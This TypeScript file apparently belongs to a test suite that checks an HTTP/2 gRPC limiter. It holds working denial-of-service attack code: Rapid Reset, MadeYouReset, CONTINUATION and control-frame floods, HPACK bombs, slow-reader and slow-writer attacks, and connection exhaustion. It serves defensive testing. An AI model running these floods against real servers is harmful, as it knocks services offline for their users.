/** Attacks on the gRPC listener by frames: the published ones, and those that hold what the limiter keeps for callers. */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

import { Flag, FrameType, largest31, Setting } from '../../limiter/http2/constants.ts';
import { grpcMessage } from '../support/grpc-message.ts';
import {
  data,
  frame,
  ping,
  priority,
  resetStream,
  settings,
  uint32,
  windowUpdate,
} from '../support/http2-frame-script.ts';
import { type Attack, attackerAddress, callFields, H2Peer, never, openMany, RawPeer } from './attack.ts';
import { requestOf, simpleRequest } from './attacks-requests.ts';

const simpleCall = grpcMessage(simpleRequest);
/** 256 descriptors, whose answer has a status for each. */
const longAnswerCall = grpcMessage(requestOf('attack', 256, (i) => [['known', String(i)]]));
const repeated = (count: number, make: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
/** Indexed field, RFC 7541, section 6.1: the newest entry of the dynamic table. */
const newestEntry = 0xbe;

/** How the limiter ends a connection, by its reason. */
const rapidReset = /\(rapid_reset\)$/;
const provokedReset = /\(provoked_reset\)$/;
const continuationFlood = /\(continuation_flood\)$/;
const controlFlood = /\(control_flood\)$/;
/** How it rejects a call. */
const headersTooLarge = /^HTTP 431$/;
const kept = /^connections open$/;

/** Four connections send the same kind of bytes without end; one that is ended is opened again. */
function flood(name: string, what: string, meets: RegExp, chunk: (peer: H2Peer) => Buffer): Attack {
  return {
    name,
    meets,
    what: `${what}, on four connections that are opened again when the limiter ends them`,
    async run({ ports, got }) {
      const one = async (): Promise<never> => {
        for (;;) {
          const peer = await new H2Peer(ports.grpc, got).begin();
          while (!peer.isClosed) await peer.write(chunk(peer));
          await sleep(10);
        }
      };
      await Promise.all([one(), one(), one(), one()]);
    },
  };
}

const floods: readonly Attack[] = [
  flood(
    'rapid-reset',
    'Rapid reset, CVE-2023-44487: calls that the client resets immediately',
    rapidReset,
    (peer) =>
      repeated(100, () => {
        const id = peer.nextId();
        return Buffer.concat([peer.headers(id), resetStream(id, 8)]);
      }),
  ),
  flood(
    'made-you-reset',
    'MadeYouReset, CVE-2025-8671: calls, each followed by a frame that makes the server reset the call',
    provokedReset,
    (peer) =>
      repeated(100, (i) => {
        const id = peer.nextId();
        const fault = [
          windowUpdate(id, 0),
          priority(id, id),
          data(id, 'x'),
          frame(FrameType.PRIORITY, 0, id, [1]),
        ];
        return Buffer.concat([peer.headers(id, Flag.END_STREAM), fault[i % fault.length] as Buffer]);
      }),
  ),
  flood(
    'continuation',
    'CONTINUATION flood, CVE-2024-27983: HEADERS without END_HEADERS, then CONTINUATION frames of 1 KiB',
    continuationFlood,
    (peer) => {
      const field = peer.block(['x-filler', 'a'.repeat(1000)]);
      const begin = frame(FrameType.HEADERS, 0, peer.nextId(), peer.block());
      return Buffer.concat([begin, repeated(60, () => frame(FrameType.CONTINUATION, 0, 1, field))]);
    },
  ),
  flood('ping', 'PING flood, CVE-2019-9512', controlFlood, () => repeated(500, () => ping())),
  flood(
    'settings',
    'SETTINGS flood, CVE-2019-9515: the server must acknowledge each frame',
    controlFlood,
    () => repeated(300, (i) => settings([Setting.INITIAL_WINDOW_SIZE, 65_535 + (i % 2)])),
  ),
  flood(
    'empty-data',
    'Empty frames, CVE-2019-9518: empty DATA frames for an open call',
    controlFlood,
    (peer) => {
      const id = peer.nextId();
      return Buffer.concat([peer.headers(id), repeated(500, () => data(id, ''))]);
    },
  ),
  flood('empty-headers', 'Empty HEADERS frames: calls without fields', provokedReset, (peer) =>
    repeated(300, () => frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, peer.nextId())),
  ),
  flood('priority', 'PRIORITY flood, CVE-2019-9513', controlFlood, () =>
    repeated(500, (i) => priority(2 * i + 1, 0)),
  ),
  flood('window-update', 'WINDOW_UPDATE flood: one byte each', controlFlood, () =>
    repeated(500, () => windowUpdate(0, 1)),
  ),
  flood('unknown-frames', 'Frames of an unknown type', controlFlood, () =>
    repeated(500, () => frame(0x42, 0, 0, uint32(1))),
  ),
  flood(
    'hpack-bomb',
    'HPACK bomb: 4,000 bytes in the table, then calls that refer to them 16,000 times',
    headersTooLarge,
    (peer) => {
      const fill = peer.headers(peer.nextId(), Flag.END_STREAM, [...callFields, 'x-bomb', 'a'.repeat(4000)]);
      const block = Buffer.alloc(16_000, newestEntry);
      const bomb = (): Buffer =>
        frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, peer.nextId(), block);
      return Buffer.concat([fill, bomb(), bomb(), bomb()]);
    },
  ),
  flood(
    'hpack-huffman',
    'Header sections of 64 KiB with the longest possible Huffman-coded text',
    headersTooLarge,
    (peer) => {
      // Five bits for "0" (RFC 7541, appendix B): a literal that enters no table, its length in three more bytes.
      const text = Buffer.alloc(64_000, 0);
      const length = Buffer.from([0xff, ...varint(text.length - 127)]);
      const block = Buffer.concat([Buffer.from([0, 1, 0x78]), length, text]);
      return repeated(3, () => section(peer.nextId(), block));
    },
  ),
  flood(
    'header-list',
    'Calls with header lists above SETTINGS_MAX_HEADER_LIST_SIZE',
    headersTooLarge,
    (peer) => {
      const fields = [...callFields];
      for (let i = 0; i < 600; i++) fields.push(`x-header-${i}`, 'a'.repeat(150));
      const block = peer.block(fields);
      return repeated(3, () => section(peer.nextId(), block));
    },
  ),
];

/** A header section of a request without a body, in as many frames as it takes. */
function section(id: number, block: Buffer): Buffer {
  const max = 16_000;
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += max) {
    const type = at === 0 ? FrameType.HEADERS : FrameType.CONTINUATION;
    const flags = (at === 0 ? Flag.END_STREAM : 0) | (at + max >= block.length ? Flag.END_HEADERS : 0);
    frames.push(frame(type, flags, id, block.subarray(at, at + max)));
  }
  return Buffer.concat(frames);
}

/** Streams that are begun with a message of which a few bytes come. */
function openStreams(name: string, where: string, from: (index: number) => string): Attack {
  return {
    name,
    what: `100 connections ${where}, with 1,000 calls each. Of each message of 4,000 bytes, only 20 arrive`,
    meets: kept,
    async run({ ports, got, many }) {
      const part = Buffer.concat([Buffer.from([0]), uint32(4000), Buffer.alloc(20)]);
      const open = (index: number): Promise<H2Peer> =>
        new H2Peer(ports.grpc, got, { from: from(index) }).begin();
      await openMany(many(100), open, async (peer) => {
        const h2 = peer as H2Peer;
        for (let i = 0; i < 10; i++) {
          await h2.write(
            repeated(100, () => {
              const id = h2.nextId();
              return Buffer.concat([h2.headers(id), data(id, part)]);
            }),
          );
        }
      });
      await never;
    },
  };
}

const holders: readonly Attack[] = [
  openStreams('open-streams', 'of one address', () => attackerAddress),
  openStreams('open-streams-many-addresses', 'of 100 addresses', (index) => `127.0.3.${index + 1}`),
  openStreams('open-streams-same-address', "of the good client's own address", () => '127.0.0.1'),
  {
    name: 'unfinished-messages',
    what: '100 connections with four messages of 4 MiB each. The windows are used up, but the messages do not end',
    meets: /^answers$/,
    async run({ ports, got, many }) {
      const part = Buffer.concat([Buffer.from([0]), uint32(4_194_304), Buffer.alloc(1_100_000)]);
      await openMany(
        many(100),
        () => new H2Peer(ports.grpc, got).begin(),
        async (peer) => {
          const h2 = peer as H2Peer;
          for (let i = 0; i < 4; i++) {
            const id = h2.nextId();
            await h2.write(h2.headers(id));
            void h2.body(id, part, 0);
          }
        },
      );
      await never;
    },
  },
  {
    name: 'header-section-unended',
    what: '1,000 connections, each with a header section of 60 KiB without END_HEADERS',
    meets: kept,
    async run({ ports, got, many }) {
      const piece = Buffer.alloc(15_000, newestEntry - 0x3c);
      await openMany(
        many(1000),
        () => new H2Peer(ports.grpc, got).begin(),
        async (peer) => {
          const id = (peer as H2Peer).nextId();
          const more = repeated(3, () => frame(FrameType.CONTINUATION, 0, id, piece));
          await peer.write(frame(FrameType.HEADERS, 0, id, piece), more);
        },
      );
      await never;
    },
  },
  {
    name: 'closed-window',
    what: '100 connections without a window for answers (SETTINGS_INITIAL_WINDOW_SIZE 0), each with a call of 256 descriptors every 50 ms',
    meets: kept,
    async run({ ports, got, many }) {
      await openMany(
        many(100),
        () => new H2Peer(ports.grpc, got).begin([Setting.INITIAL_WINDOW_SIZE, 0]),
        async (peer) => void askOn(peer as H2Peer, longAnswerCall, { times: 1000, everyMs: 50 }),
      );
      await never;
    },
  },
  {
    name: 'closed-window-short',
    what: '100 such connections, each with 1,000 calls of one descriptor',
    meets: kept,
    async run({ ports, got, many }) {
      await openMany(
        many(100),
        () => new H2Peer(ports.grpc, got).begin([Setting.INITIAL_WINDOW_SIZE, 0]),
        async (peer) => void askOn(peer as H2Peer, simpleCall, { times: 1000 }),
      );
      await never;
    },
  },
  {
    name: 'window-by-byte',
    what: 'Slow readers: 100 connections with 200 calls each, whose windows allow one byte of an answer at a time',
    meets: kept,
    async run({ ports, got, many }) {
      await openMany(
        many(100),
        () => new H2Peer(ports.grpc, got).begin([Setting.INITIAL_WINDOW_SIZE, 0]),
        async (peer) => {
          await askOn(peer as H2Peer, simpleCall, { times: 200 });
          void drip(peer, 100, (i) => windowUpdate(2 * (i % 200) + 1, 1));
        },
      );
      await never;
    },
  },
  {
    name: 'never-reading',
    what: 'Slow readers: 100 connections with open windows that never read from their sockets, each with a call of 256 descriptors every 50 ms',
    meets: kept,
    async run({ ports, got, many }) {
      const windows: [number, number][] = [[Setting.INITIAL_WINDOW_SIZE, largest31]];
      await openMany(
        many(100),
        () => new H2Peer(ports.grpc, got, { deaf: true }).begin(...windows),
        async (peer) => {
          void askOn(peer as H2Peer, longAnswerCall, { times: 1000, everyMs: 50 });
        },
      );
      await never;
    },
  },
  {
    name: 'slow-writers',
    what: 'Slow writers: 1,000 connections, each with a call that sends one byte every 100 ms',
    meets: kept,
    async run({ ports, got, many }) {
      await openMany(
        many(1000),
        () => new H2Peer(ports.grpc, got).begin(),
        async (peer) => {
          const id = (peer as H2Peer).nextId();
          await peer.write((peer as H2Peer).headers(id));
          void drip(peer, 100, (i) => data(id, simpleCall.subarray(i % 5, (i % 5) + 1)));
        },
      );
      await never;
    },
  },
  {
    name: 'health-watches',
    what: '100 connections with 1,000 health watches each',
    meets: kept,
    async run({ ports, got, many }) {
      const fields = callFields.with(5, '/grpc.health.v1.Health/Watch');
      await openMany(
        many(100),
        () => new H2Peer(ports.grpc, got).begin(),
        async (peer) => {
          const h2 = peer as H2Peer;
          for (let i = 0; i < 10; i++) {
            await h2.write(
              repeated(100, () => {
                const id = h2.nextId();
                return Buffer.concat([
                  h2.headers(id, 0, fields),
                  data(id, grpcMessage(Buffer.alloc(0)), Flag.END_STREAM),
                ]);
              }),
            );
          }
        },
      );
      await never;
    },
  },
];

const connections: readonly Attack[] = [
  {
    name: 'connections-10000',
    what: '10,000 idle HTTP/2 connections',
    meets: kept,
    async run({ ports, got, many }) {
      await openMany(many(10_000), () => new H2Peer(ports.grpc, got).begin());
      await never;
    },
  },
  {
    name: 'connections-silent',
    what: '10,000 connections that send no byte',
    meets: kept,
    async run({ ports, got, many }) {
      await openMany(many(10_000), () => new RawPeer(ports.grpc, got));
      await never;
    },
  },
  {
    name: 'connections-churn',
    what: 'Connections that start HTTP/2 and then close, sixteen at a time, endlessly',
    meets: /^connections begun$/,
    async run({ ports, got }) {
      await openManyForEver(16, async () => {
        const peer = await new H2Peer(ports.grpc, got).begin();
        if (!peer.isClosed) got.add('connections begun');
        peer.close();
      });
    },
  },
  {
    name: 'tls-half-open',
    what: '5,000 TLS handshakes on the gRPC listener that stop within the first message',
    meets: kept,
    tls: true,
    async run({ ports, got, many }) {
      // The header of a record, and of a ClientHello, of which 500 bytes are reported and 50 come.
      const begin = Buffer.concat([Buffer.from([22, 3, 1, 1, 0xf8, 1, 0, 1, 0xf4, 3, 3]), Buffer.alloc(50)]);
      await openMany(
        many(5000),
        () => new RawPeer(ports.grpc, got),
        (peer) => peer.write(begin),
      );
      await never;
    },
  },
  {
    name: 'tls-handshakes',
    what: 'TLS handshakes whose connections close after the handshake, eight at a time, endlessly',
    meets: /^handshakes$/,
    tls: true,
    async run({ ports, got }) {
      await openManyForEver(8, async () => {
        const peer = new RawPeer(ports.grpc, got, { tls: true });
        await peer.opened();
        got.add(peer.isClosed ? 'failed' : 'handshakes');
        peer.close();
      });
    },
  },
  {
    name: 'not-http2',
    what: '64 KiB of random bytes on new connections, sixteen at a time, endlessly',
    meets: /^connections closed$/,
    async run({ ports, got }) {
      const noise = Buffer.alloc(65_536);
      for (let i = 0, x = 1; i < noise.length; i++) {
        x = (x * 48_271) % 2_147_483_647;
        noise[i] = x;
      }
      await openManyForEver(
        16,
        () =>
          new Promise<void>((resolve) => {
            const to = { host: '127.0.0.1', port: ports.grpc, localAddress: attackerAddress };
            const socket = connect(to, () => socket.end(noise));
            const peer = { close: () => void socket.destroy() };
            got.opens(peer);
            socket.resume();
            socket.on('error', () => {});
            socket.on('close', () => {
              got.closed(peer);
              got.add('connections closed');
              resolve();
            });
          }),
      );
    },
  },
];

export const http2Attacks: readonly Attack[] = [...floods, ...holders, ...connections];

/** Whole calls, whose answers nobody waits for. */
async function askOn(
  peer: H2Peer,
  body: Buffer,
  { times, everyMs }: { times: number; everyMs?: number },
): Promise<void> {
  for (let i = 0; i < times && !peer.isClosed; i++) {
    const id = peer.nextId();
    await peer.write(peer.headers(id));
    await peer.body(id, body);
    if (everyMs !== undefined) await sleep(everyMs);
  }
}

/** Something small each `everyMs` until the connection ends. */
export async function drip(peer: RawPeer, everyMs: number, piece: (i: number) => Uint8Array): Promise<void> {
  for (let i = 0; !peer.isClosed; i++) {
    await peer.write(piece(i));
    await sleep(everyMs);
  }
}

/** So many at a time, again and again. */
export async function openManyForEver(count: number, once: () => Promise<unknown>): Promise<void> {
  const one = async (): Promise<never> => {
    for (;;) {
      await once();
      // Ports of closed connections rest for a minute; there are some 28,000.
      await sleep(20);
    }
  };
  await Promise.all(Array.from({ length: count }, one));
}

/** RFC 7541, section 5.1, what follows the prefix. */
function varint(value: number): number[] {
  const bytes: number[] = [];
  let left = value;
  for (; left >= 128; left = Math.floor(left / 128)) bytes.push((left % 128) + 128);
  return [...bytes, left];
}
